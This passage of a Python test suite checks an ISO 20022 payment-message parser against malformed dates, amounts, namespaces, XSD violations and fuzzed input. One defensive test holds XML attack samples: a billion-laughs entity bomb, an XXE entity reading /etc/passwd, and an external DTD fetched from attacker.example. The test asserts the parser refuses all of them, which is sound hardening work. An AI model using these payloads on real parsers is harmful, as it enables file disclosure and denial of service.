    for amount, currency in (("150000.000", "JPY"), ("0.12345", "XAU"), ("1.500", "KWD")):
        tx = PacsTx(debtor=ZHANG_WEI, creditor=XINDA, amount=amount, currency=currency)
        assert parse_iso20022(pacs008("08", [tx]))[0].amount == Decimal(amount)


def test_missing_currency_attribute() -> None:
    data = pacs_sample().replace(b'<IntrBkSttlmAmt Ccy="EUR">', b"<IntrBkSttlmAmt>")
    error = reject(data)
    assert error.reason == "IntrBkSttlmAmt: the Ccy attribute (currency) is missing"
    assert error.element == "/Document/FIToFICstmrCdtTrf/CdtTrfTxInf[2]/IntrBkSttlmAmt"


@pytest.mark.parametrize(
    "written",
    [
        "2024-13-01T10:00:00",
        "2024-02-30T10:00:00+08:00",
        "2024-05-06 10:00:00",
        "2024-05-06",
        "2024-05-06T10:00:00+15:00",
        "2024-05-06T25:00:00",
        "yesterday",
    ],
)
def test_bad_date_time(written: str) -> None:
    txs = [PACS_TXS[0], PacsTx(debtor=ZHANG_WEI, creditor=XINDA, accepted_at=written)]
    data = pacs008("09", txs)
    error = reject(data)
    assert error.reason == f"AccptncDtTm: {written!r} is not a valid ISO 8601 date-time"
    assert error.element == "/Document/FIToFICstmrCdtTrf/CdtTrfTxInf[2]/AccptncDtTm"
    assert error.line == line_of(data, b"<AccptncDtTm>", 2)


def test_bad_creation_time_and_booking_date() -> None:
    error = reject(pacs008("08", PACS_TXS, created="06/05/2024 09:30"))
    assert error.element == "/Document/FIToFICstmrCdtTrf/GrpHdr/CreDtTm"
    assert "'06/05/2024 09:30' is not a valid ISO 8601 date-time" in error.reason
    entry = CamtEntry("CRDT", "1.00", booked_on="2024-05-32", txs=(CamtTx(ZHANG_WEI),))
    error = reject(camt05x("053", "02", XINDA, [entry]))
    assert error.element == "/Document/BkToCstmrStmt/Stmt[1]/Ntry[1]/BookgDt/Dt"
    assert error.reason == "Dt: '2024-05-32' is not a valid ISO 8601 date"


@pytest.mark.parametrize(
    ("namespace", "reason"),
    [
        (f"{ISO}pacs.002.001.10", "unsupported message type pacs.002.001.10"),
        (f"{ISO}pain.001.001.09", "unsupported message type pain.001.001.09"),
        (f"{ISO}camt.052.001.08", "unsupported message type camt.052.001.08"),
        ("urn:example:not-iso", "Document has 'urn:example:not-iso'; expected an ISO 20022"),
        (None, "Document has no namespace"),
    ],
)
def test_unsupported_message_type(namespace: str | None, reason: str) -> None:
    xmlns = f' xmlns="{namespace}"' if namespace else ""
    data = (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<Document{xmlns}>\n  <FIToFIPmtStsRpt>\n'
        "    <GrpHdr><MsgId>STS-1</MsgId><CreDtTm>2024-05-06T09:30:00</CreDtTm></GrpHdr>\n"
        "  </FIToFIPmtStsRpt>\n</Document>\n"
    ).encode()
    error = reject(data)
    assert error.reason.startswith(reason)
    assert error.element == "/Document"
    assert error.line == 2


@pytest.mark.parametrize(
    "data",
    [b"hello, this is not XML", b'{"MsgId": "FZ-1", "amount": 12.5}', b"\x00\x01\x02\xff\xfe"],
)
def test_not_xml_at_all(data: bytes) -> None:
    error = reject(data)
    assert error.reason.startswith("not XML:")
    assert error.line == 1


@pytest.mark.parametrize("fraction", [0.1, 0.5, 0.9, 0.999])
def test_truncated_xml(fraction: float) -> None:
    data = pacs_sample()
    cut = data[: int(len(data) * fraction)]
    error = reject(cut)
    assert error.reason.startswith("truncated XML: the message ends too early")
    assert error.line == cut.count(b"\n") + 1


def test_malformed_xml() -> None:
    data = pacs_sample().replace(b"</MsgId>", b"</MsgID>", 1)
    error = reject(data)
    assert error.reason.startswith("not well-formed XML:")
    assert error.line == line_of(data, b"</MsgID>")


@pytest.mark.parametrize("data", [b"", b"   \r\n\t "])
def test_empty_message(data: bytes) -> None:
    assert reject(data).reason == "empty message: no XML at all"


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE Document [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08">
 <FIToFICstmrCdtTrf><GrpHdr><MsgId>&lol9;</MsgId></GrpHdr></FIToFICstmrCdtTrf>
</Document>
"""


@pytest.mark.parametrize(
    "data",
    [
        BILLION_LAUGHS,
        pacs_sample()
        .replace(
            b"<Document",
            b'<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<Document',
        )
        .replace(b"<MsgId>FZ-PACS-20240506-0001", b"<MsgId>&xxe;"),
        pacs_sample().replace(
            b"<Document", b'<!DOCTYPE Document SYSTEM "http://attacker.example/x.dtd">\n<Document'
        ),
        envelope(pacs_sample(), "pacs.008.001.08").replace(
            b"<BizMsg>", b'<!DOCTYPE BizMsg [<!ENTITY e "x">]>\n<BizMsg>'
        ),
    ],
    ids=["billion-laughs", "xxe-file", "external-dtd", "entity-in-envelope"],
)
def test_doctype_and_entities_are_refused(data: bytes) -> None:
    started = time.perf_counter()
    error = reject(data)
    assert time.perf_counter() - started < 1.0  # nothing was expanded
    assert error.reason.startswith("DOCTYPE declarations are not allowed")
    assert error.line == line_of(data, b"<!DOCTYPE")
    assert "root:" not in str(error)


def test_xsd_invalid_element_order() -> None:
    root = etree.fromstring(pacs_sample(), etree.XMLParser(remove_blank_text=True))
    ns = {"p": f"{ISO}pacs.008.001.08"}
    tx = root.findall("p:FIToFICstmrCdtTrf/p:CdtTrfTxInf", ns)[1]
    charge = tx.find("p:ChrgBr", ns)
    assert charge is not None
    tx.remove(charge)
    tx.insert(0, charge)  # ChrgBr before PmtId
    data = etree.tostring(root, xml_declaration=True, encoding="UTF-8", pretty_print=True)
    assert parse_iso20022(data) == expected_pacs("08")  # the order is the XSD's business
    error = reject(data, xsd_dir=xsd_dir_for("pacs.008.001.08"))
    assert error.element == "/Document/FIToFICstmrCdtTrf/CdtTrfTxInf[2]/ChrgBr"
    assert error.reason.startswith("not valid against pacs.008.001.08.xsd: Element 'ChrgBr'")
    assert "Expected is ( PmtId )" in error.reason
    assert error.line == line_of(data, b"<ChrgBr>", 2)


def test_xsd_invalid_value_in_envelope() -> None:
    data = envelope(camt_sample("053", "08"), "camt.053.001.08")
    data = data.replace(b"<Cd>BOOK</Cd>", b"<Cd>BOOKED</Cd>", 2)
    error = reject(data, xsd_dir=xsd_dir_for("camt.053.001.08"))
    assert error.element == "/Document/BkToCstmrStmt/Stmt[1]/Ntry[1]/Sts/Cd"
    assert "[facet 'maxLength']" in error.reason
    assert error.line == line_of(data, b"<Cd>BOOKED</Cd>")


def test_xsd_missing_for_the_message_type(tmp_path: Path) -> None:
    error = reject(pacs_sample(), xsd_dir=tmp_path)
    assert error.reason.startswith("cannot validate pacs.008.001.08: no pacs.008.001.08.xsd")
    error = reject(pacs_sample(), xsd_dir=tmp_path / "nowhere")
    assert "does not exist" in error.reason


@pytest.mark.parametrize("header_version", ["02", "04"])
def test_envelope_without_document(header_version: str) -> None:
    data = envelope(None, "pacs.008.001.08", header_version=header_version)
    error = reject(data)
    assert error.reason == "the envelope holds an AppHdr but no Document: there is no message body"
    assert error.element == "/BizMsg"
    assert error.line == 2


def test_other_xml_without_document() -> None:
    error = reject(b"<Invoice><Total>12.50</Total></Invoice>")
    assert error.reason.startswith("no Document element found: <Invoice>")


def test_two_documents_in_one_envelope() -> None:
    data = envelope(pacs_sample(), "pacs.008.001.08").replace(
        b"</BizMsg>", pacs_sample().split(b"?>", 1)[1] + b"</BizMsg>"
    )
    assert "2 Document elements" in reject(data).reason


def test_group_header_checks() -> None:
    error = reject(pacs008("08", PACS_TXS, nb_of_txs=5))
    assert error.reason == "NbOfTxs says 5 transactions but the message holds 4 CdtTrfTxInf"
    assert error.element == "/Document/FIToFICstmrCdtTrf/GrpHdr/NbOfTxs"
    error = reject(pacs008("08", PACS_TXS, ctrl_sum="201334.56"))
    assert error.reason == "CtrlSum says 201334.56 but the transactions add up to 201334.55"
    two = [PacsTx(ZHANG_WEI, XINDA, amount="10.00"), PacsTx(CHEN_JIE, XINDA, amount="5.50")]
    assert len(parse_iso20022(pacs008("08", two, total_settled=("15.50", "CNY")))) == 2
    error = reject(pacs008("08", two, total_settled=("15.00", "CNY")))
    assert error.element == "/Document/FIToFICstmrCdtTrf/GrpHdr/TtlIntrBkSttlmAmt"
    error = reject(pacs_sample().replace(b"<MsgId>FZ-PACS-20240506-0001</MsgId>", b""))
    assert (error.element, error.reason) == (
        "/Document/FIToFICstmrCdtTrf/GrpHdr/MsgId",
        "MsgId missing in GrpHdr",
    )


def test_no_transactions() -> None:
    data = pacs008("08", [], nb_of_txs=0)
    error = reject(data)
    assert error.reason == "the message holds no transaction (CdtTrfTxInf)"
    assert error.element == "/Document/FIToFICstmrCdtTrf/CdtTrfTxInf"


@pytest.mark.parametrize(
    "uetr",
    ["not-a-uuid", str(uuid.uuid1()), "e8b1a5d2-3c4f-4a6b-7d8e-7f6a5b4c3d21", UETR_1 + "0"],
)
def test_bad_uetr(uetr: str) -> None:
    data = pacs008("08", [PACS_TXS[1], PacsTx(ZHANG_WEI, XINDA, uetr=uetr)])
    error = reject(data)
    assert error.reason == f"UETR: {uetr!r} is not a UUID v4"
    assert error.element == "/Document/FIToFICstmrCdtTrf/CdtTrfTxInf[2]/PmtId/UETR"


def test_duplicate_uetr_in_one_pacs008() -> None:
    txs = [PACS_TXS[0], PACS_TXS[1], PacsTx(CHEN_JIE, ALICE, uetr=UETR_1)]
    error = reject(pacs008("08", txs))
    assert error.reason == f"UETR {UETR_1} of transaction 3 is also that of transaction 1"


def test_bad_credit_debit_indicator() -> None:
    data = camt_sample("054", "08").replace(
        b"<CdtDbtInd>DBIT</CdtDbtInd>", b"<CdtDbtInd>DR</CdtDbtInd>", 1
    )
    error = reject(data)
    assert error.reason == "CdtDbtInd: 'DR' is neither CRDT nor DBIT"


def test_error_survives_pickling() -> None:
    error = reject(pacs008("08", PACS_TXS, nb_of_txs=7))
    copy = pickle.loads(pickle.dumps(error))
    assert isinstance(copy, Iso20022Error)
    assert (copy.reason, copy.element, copy.line) == (error.reason, error.element, error.line)
    assert str(copy) == str(error)
    assert isinstance(error, ValueError)


# --------------------------------------------------------------------------------------------
# speed


def big_pacs008(count: int) -> bytes:
    txs = []
    for i in range(count):
        model = PACS_TXS[i % len(PACS_TXS)]
        txs.append(
            PacsTx(
                debtor=model.debtor,
                creditor=model.creditor,
                amount=model.amount,
                currency=model.currency,
                end_to_end_id=f"E2E-{i:06d}",
                instr_id=f"INSTR-{i:06d}",
                uetr=str(uuid.UUID(int=i * 7919 + 1, version=4)) if i % 2 else None,
                accepted_at=model.accepted_at,
                remittance=model.remittance,
            )
        )
    return pacs008("08", txs)


def test_large_message_keeps_order_ids_and_exact_error_lines() -> None:
    # Speed is measured outside the unit tests (10,000 transactions: see the module notes).
    data = big_pacs008(2_000)
    transfers = parse_iso20022(data)
    assert [t.index for t in transfers] == list(range(2_000))
    assert len({t.event_id for t in transfers}) == 2_000
    assert transfers[1_999].end_to_end_id == "E2E-001999"
    # an error far down (past line 65,535, where libxml2 once stopped counting) is located
    at = data.index(b"<IntrBkSttlmAmt", data.index(b"E2E-001901"))
    bad = data[:at] + data[at:].replace(b">1234.56<", b">12,50<", 1)
    error = reject(bad)
    assert error.element == "/Document/FIToFICstmrCdtTrf/CdtTrfTxInf[1902]/IntrBkSttlmAmt"
    assert error.line == bad.count(b"\n", 0, at) + 1 > 65_535


# --------------------------------------------------------------------------------------------
# fuzzing: any input parses or raises Iso20022Error, never anything else

FUZZ_SEEDS = (
    pacs008("08", PACS_TXS[:2], ctrl_sum="51234.56"),
    pacs008("13", PACS_TXS[2:]),
    camt05x("054", "08", CAMT_ACCOUNT, camt_entries("08")[:3]),
    camt05x("053", "02", CAMT_ACCOUNT, camt_entries("02")[1:4]),
    envelope(pacs008("10", PACS_TXS[:1]), "pacs.008.001.10"),
    camt05x("053", "04", CAMT_ACCOUNT, camt_mixed_entries("04")),
    camt05x("054", "11", CAMT_ACCOUNT, camt_fee_entries()),
)
FUZZ_XSD = XSD_DIR if XSD_DIR.is_dir() else None


def parse_or_reject(data: bytes, *, validate: bool = False) -> None:
    try:
        result = parse_iso20022_detailed(data, xsd_dir=FUZZ_XSD if validate else None)
    except Iso20022Error as error:
        assert error.reason
        return
    for transfer in result.transfers:
        assert transfer.amount > 0
        assert transfer.ts.tzinfo is not None
        assert transfer.payer_account and transfer.payee_account
    for skipped in result.skipped:
        assert result.message_type.startswith("camt.")
        assert skipped.kind in SKIP_KINDS and skipped.reason and skipped.element
        if skipped.kind == "no_counterparty":
            assert skipped.amount is not None and skipped.amount > 0
            assert skipped.direction in ("CRDT", "DBIT")


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=600))
def test_fuzz_random_bytes(data: bytes) -> None:
    parse_or_reject(data)


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=300))
def test_fuzz_random_text_in_a_document(text: str) -> None:
    body = text.encode("utf-8", "surrogatepass")
    parse_or_reject(b'<Document xmlns="' + f"{ISO}camt.054.001.08".encode() + b'">' + body)
    parse_or_reject(
        b'<Document xmlns="'
        + f"{ISO}pacs.008.001.08".encode()
        + b'"><FIToFICstmrCdtTrf>'
        + body
        + b"</FIToFICstmrCdtTrf></Document>"
    )


@st.composite
def byte_mutations(draw: st.DrawFn) -> bytes:
    data = bytearray(draw(st.sampled_from(FUZZ_SEEDS)))
    for _ in range(draw(st.integers(1, 4))):
        size = len(data)
        if size == 0:
            break
        at = draw(st.integers(0, size - 1))
        op = draw(st.sampled_from(["flip", "delete", "insert", "truncate", "duplicate"]))
        if op == "flip":
            data[at] = draw(st.integers(0, 255))
        elif op == "delete":
            del data[at : at + draw(st.integers(1, 40))]
        elif op == "insert":
            data[at:at] = draw(st.binary(min_size=1, max_size=20))
        elif op == "truncate":
            del data[at:]
        else:
            data[at:at] = data[at : at + draw(st.integers(1, 200))]
    return bytes(data)


_XML_TEXT = st.text(
    st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff"),
    max_size=40,
) | st.sampled_from(
    ["", "0", "-1", "1e3", "12,50", "CRDT", "DBIT", "BOOK", "PDNG", "2024-02-30", "99999999"]
)


@st.composite
def tree_mutations(draw: st.DrawFn) -> bytes:
    """Well-formed messages with texts, attributes and elements changed, dropped or repeated."""
    root = etree.fromstring(draw(st.sampled_from(FUZZ_SEEDS)))
    for _ in range(draw(st.integers(1, 3))):
        elements = list(root.iter())
        el = elements[draw(st.integers(0, len(elements) - 1))]
        op = draw(st.sampled_from(["text", "ccy", "drop", "repeat", "rename"]))
        parent = el.getparent()
        if op == "text":
            el.text = draw(_XML_TEXT)
        elif op == "ccy":
            el.set("Ccy", draw(_XML_TEXT))
        elif op == "drop" and parent is not None:
            parent.remove(el)
        elif op == "repeat" and parent is not None:
            parent.append(etree.fromstring(etree.tostring(el)))
        elif op == "rename":
            namespace = etree.QName(el).namespace
            el.tag = f"{{{namespace}}}X" if namespace else "X"
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8")


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(byte_mutations(), st.booleans())
def test_fuzz_byte_mutations_of_valid_messages(data: bytes, validate: bool) -> None:
    parse_or_reject(data, validate=validate)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(tree_mutations(), st.booleans())
def test_fuzz_tree_mutations_of_valid_messages(data: bytes, validate: bool) -> None:
    parse_or_reject(data, validate=validate)
